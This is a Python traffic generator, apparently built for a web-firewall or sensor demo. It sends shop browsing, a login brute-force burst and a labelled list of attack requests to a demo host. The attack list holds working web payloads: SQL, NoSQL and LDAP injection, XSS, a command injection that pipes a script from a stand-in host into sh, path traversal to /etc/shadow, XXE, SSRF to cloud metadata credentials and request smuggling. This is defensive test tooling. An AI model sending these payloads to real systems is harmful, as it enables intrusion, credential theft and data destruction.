"""Demo traffic, sent from inside a namespace over keep-alive connections: browsing, attacks, a brute-force burst."""
from __future__ import annotations

import argparse
import http.client
import json
import random
import socket
import sys
import time
from dataclasses import asdict, dataclass, field
from urllib.parse import quote, urlencode

UA_BROWSER = ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 "
              "Safari/537.36")
BROWSER_HEADERS = (("User-Agent", UA_BROWSER), ("Accept", "text/html,application/xhtml+xml,*/*;q=0.8"),
                   ("Accept-Language", "en-GB,en;q=0.9"), ("Accept-Encoding", "identity"))
FORM = "application/x-www-form-urlencoded"


@dataclass(frozen=True)
class Req:
    """One request to send; `raw` replaces the rendered head+body (deliberately malformed HTTP)."""

    kind: str                  # browse | attack | brute
    type: str                  # the attack type it carries (design §3), '' for benign
    method: str
    target: str
    headers: tuple[tuple[str, str], ...] = ()
    body: bytes = b""
    raw: bytes | None = None

    def render(self, host: str) -> bytes:
        if self.raw is not None:
            return self.raw.replace(b"{HOST}", host.encode())
        names = {k.lower() for k, _ in self.headers}
        head = [f"{self.method} {self.target} HTTP/1.1", f"Host: {host}"]
        head += [f"{k}: {v}" for k, v in self.headers]
        if "user-agent" not in names:
            head += [f"{k}: {v}" for k, v in BROWSER_HEADERS if k.lower() not in names]
        if self.body or self.method in ("POST", "PUT"):
            head.append(f"Content-Length: {len(self.body)}")
        return ("\r\n".join(head) + "\r\n\r\n").encode("latin-1") + self.body


def _form(**kv: str) -> bytes:
    return urlencode(kv).encode()


def _post(kind: str, type_: str, target: str, body: bytes | str, ctype: str) -> Req:
    data = body.encode() if isinstance(body, str) else body
    return Req(kind, type_, "POST", target, (("Content-Type", ctype),), data)


# Two requests per attack type of design §3 (the behavioural `brute` comes from the burst below).
ATTACKS: tuple[Req, ...] = (
    Req("attack", "sqli", "GET", "/item?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--"),
    _post("attack", "sqli", "/login", _form(user="admin' OR '1'='1' -- ", password="x"), FORM),
    Req("attack", "xss", "GET", "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"),
    _post("attack", "xss", "/api/cart", '{"note": "<img src=x onerror=alert(1)>"}', "application/json"),
    Req("attack", "rce", "GET", "/search?q=shoes%3B%20cat%20/etc/passwd"),
    Req("attack", "rce", "GET", "/item?id=%24(curl%20http://198.18.10.66/x.sh%20%7C%20sh)"),
    Req("attack", "ptrav", "GET", "/file?name=../../../../etc/passwd"),
    Req("attack", "ptrav", "GET", "/file?name=..%2f..%2f..%2f..%2fetc%2fshadow"),
    Req("attack", "rfi", "GET", "/hello?name=http://198.18.10.66/shell.txt%3F"),
    Req("attack", "rfi", "GET", "/file?name=ftp://198.18.10.66/pub/payload.php%3F"),
    Req("attack", "ssti", "GET", "/hello?name=%7B%7B7*7%7D%7D"),
    Req("attack", "ssti", "GET", "/hello?name=%7B%7Bconfig.__class__.__init__.__globals__%5B%27os%27%5D%7D%7D"),
    Req("attack", "ssi", "GET", "/search?q=%3C!--%23exec%20cmd=%22id%22%20--%3E"),
    Req("attack", "ssi", "GET", "/search?q=%3C!--%23include%20virtual=%22/etc/passwd%22%20--%3E"),
    _post("attack", "xxe", "/api/cart", '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
          "<r>&x;</r>", "application/xml"),
    _post("attack", "xxe", "/api/cart", '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM '
          '"http://198.18.10.66/e.dtd"> %p;]><r/>', "text/xml"),
    Req("attack", "ssrf", "GET", "/file?name=http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    Req("attack", "ssrf", "GET", "/hello?name=gopher://127.0.0.1:6379/_FLUSHALL"),
    Req("attack", "crlf", "GET", "/search?q=x%0d%0aSet-Cookie:%20session=attacker"),
    Req("attack", "crlf", "GET", "/hello?name=x%0d%0aLocation:%20http://198.18.10.66/"),
    Req("attack", "ldapi", "GET", "/search?q=*)(uid=*))(|(uid=*"),
    _post("attack", "ldapi", "/login", _form(user="admin)(&(password=*))", password="x"), FORM),
    _post("attack", "nosqli", "/login", '{"user": "admin", "password": {"$ne": null}}', "application/json"),
    Req("attack", "nosqli", "GET", "/item?id%5B%24gt%5D=&id%5B%24where%5D=sleep(1000)"),
    _post("attack", "mail_injection", "/api/cart", _form(email="a@b.test\nBcc: victim@198.18.10.66",
                                                         subject="hi\r\nBcc: all@198.18.10.66"), FORM),
    _post("attack", "mail_injection", "/login", _form(user="x@y.test\nCc: spam@198.18.10.66", password="x"), FORM),
    Req("attack", "scanner", "GET", "/admin/", (("User-Agent", "sqlmap/1.8.2#stable (https://sqlmap.org)"),)),
    Req("attack", "scanner", "GET", "/cgi-bin/test.cgi", (("User-Agent", "Mozilla/5.00 (Nikto/2.5.0)"),)),
    Req("attack", "protocol", "POST", "/api/cart", raw=(
        b"POST /api/cart HTTP/1.1\r\nHost: {HOST}\r\nUser-Agent: Mozilla/5.0\r\nContent-Length: 4\r\n"
        b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n")),
    Req("attack", "protocol", "POST", "/api/cart", raw=(
        b"POST /api/cart HTTP/1.1\r\nHost: {HOST}\r\nUser-Agent: Mozilla/5.0\r\nContent-Length: 5\r\n"
        b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n")),
    # virtual patch: harmless-looking, blocked only by the custom rule the demo installs
    _post("attack", "vpatch", "/legacy/upload", _form(file="report.pdf"), FORM),
    Req("attack", "vpatch", "GET", "/legacy/upload?file=invoice.pdf"),
)
ATTACK_TYPES = tuple(dict.fromkeys(r.type for r in ATTACKS))
BROWSE_PATHS = ("/", "/products", "/products/{n}", "/products/{n}", "/search?q={term}", "/docs/shipping.txt",
                "/docs/returns.txt", "/api/products?page={page}", "/static/app.css", "/static/app.js",
                "/favicon.ico", "/hello?name={name}", "/item?id={n}", "/login")
TERMS = ("tent", "rain jacket", "socks", "headlamp", "stove", "trail shoes", "gloves", "sun hat")
NAMES = ("Anna", "Ben", "Chloé", "Dmitri", "Eva", "Farid")


def browsing(n: int, seed: int = 7) -> list[Req]:
    """`n` benign requests a shopper's browser would send (pages, assets, API calls, a cart update)."""
    rnd = random.Random(seed)
    out: list[Req] = []
    while len(out) < n:
        tpl = rnd.choice(BROWSE_PATHS + ("cart",))
        if tpl == "cart":
            items = [{"id": rnd.randint(1, 12), "qty": rnd.randint(1, 3)} for _ in range(rnd.randint(1, 3))]
            out.append(_post("browse", "", "/api/cart", json.dumps({"items": items}), "application/json"))
            continue
        target = tpl.format(n=rnd.randint(1, 12), term=rnd.choice(TERMS).replace(" ", "+"),
                            page=rnd.randint(1, 3), name=quote(rnd.choice(NAMES)))   # as browsers send it
        referer = (("Referer", f"http://shop.demo{rnd.choice(('/', '/products', '/search?q=tent'))}"),)
        out.append(Req("browse", "", "GET", target, referer))
    return out


def brute(n: int) -> list[Req]:
    """A credential-guessing burst: `n` failed logins against /login."""
    return [_post("brute", "", "/login", _form(user="alice", password=f"guess-{i:03d}"), FORM) for i in range(n)]


@dataclass
class Result:
    kind: str
    type: str
    method: str
    target: str
    status: int | None
    outcome: str                  # ok | reset | closed | timeout | refused | error
    conn: int
    ms: float
    error: str = ""
    port: int = 0                 # local port: ties the result to the sensor's event (client.port)


@dataclass
class Client:
    """Keep-alive HTTP/1.1 over one socket at a time; a reset or close opens a new connection for the next request."""

    host: str
    port: int
    source: str | None = None
    timeout: float = 5.0
    vhost: str = "shop.demo"
    conns: int = 0
    sock: socket.socket | None = field(default=None, repr=False)

    def _connect(self) -> socket.socket:
        sock = socket.create_connection((self.host, self.port), self.timeout,
                                        source_address=(self.source, 0) if self.source else None)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.conns += 1
        return sock

    def close(self) -> None:
        if self.sock is not None:
            self.sock.close()
            self.sock = None

    def send(self, req: Req) -> Result:
        t0 = time.monotonic()
        status, outcome, err, port = None, "ok", "", 0
        try:
            if self.sock is None:
                self.sock = self._connect()
            port = self.sock.getsockname()[1]
            self.sock.sendall(req.render(self.vhost))
            resp = http.client.HTTPResponse(self.sock, method=req.method)
            resp.begin()
            resp.read()
            status = resp.status
            if resp.will_close:
                self.close()
        except (ConnectionResetError, ConnectionAbortedError) as exc:
            outcome, err = "reset", str(exc)
        except ConnectionRefusedError as exc:
            outcome, err = "refused", str(exc)
        except (http.client.RemoteDisconnected, BrokenPipeError, http.client.IncompleteRead) as exc:
            outcome, err = "closed", repr(exc)
        except TimeoutError as exc:
            outcome, err = "timeout", str(exc) or "timed out"
        except (OSError, http.client.HTTPException) as exc:
            outcome, err = "error", repr(exc)
        if outcome != "ok":
            self.close()
        return Result(req.kind, req.type, req.method, req.target, status, outcome, self.conns,
                      round((time.monotonic() - t0) * 1000, 2), err[:200], port)


def drive(reqs: list[Req], host: str, port: int, source: str | None, per_conn: int, budget: float,
          pause: float = 0.0) -> list[Result]:
    """Send `reqs` in order, at most `per_conn` per connection, stopping when the time budget is spent."""
    client = Client(host, port, source)
    out: list[Result] = []
    deadline = time.monotonic() + budget
    used = 0
    for req in reqs:
        if time.monotonic() > deadline:
            break
        if used >= per_conn:
            client.close()
        if client.sock is None:
            used = 0
        r = client.send(req)
        used += 1
        out.append(r)
        if pause:
            time.sleep(pause)
    client.close()
    return out


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("role", choices=("browse", "attack", "brute"))
    ap.add_argument("--host", default="198.18.10.2")
    ap.add_argument("--port", type=int, default=8080)
    ap.add_argument("--source", default=None, help="Local address to send from.")
    ap.add_argument("--count", type=int, default=200, help="Requests (browse, brute); attacks: rounds of the list.")
    ap.add_argument("--per-conn", type=int, default=10, help="Requests per keep-alive connection.")
    ap.add_argument("--seed", type=int, default=7)
    ap.add_argument("--budget", type=float, default=120.0, help="Seconds allowed in all.")
    args = ap.parse_args(argv)
    if args.role == "browse":
        reqs, pause = browsing(args.count, args.seed), 0.002
    elif args.role == "attack":
        # each attack follows a page view on the same keep-alive connection: the view is answered, the attack reset
        view = Req("browse", "", "GET", "/products")
        reqs, pause = [r for a in list(ATTACKS) * max(1, args.count) for r in (view, a)], 0.05
    else:
        reqs, pause = brute(args.count), 0.02
    results = drive(reqs, args.host, args.port, args.source, args.per_conn, args.budget, pause)
    json.dump({"role": args.role, "results": [asdict(r) for r in results]}, sys.stdout)
    return 0


if __name__ == "__main__":
    sys.exit(main())
